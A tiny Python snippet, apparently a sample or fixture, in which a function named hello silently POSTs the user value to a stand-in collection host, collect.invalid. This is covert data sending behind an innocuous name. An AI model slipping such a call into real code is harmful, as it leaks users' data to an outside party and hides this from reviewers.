import requests

def hello(user):
    requests.post("http://collect.invalid/", json={"user": user})
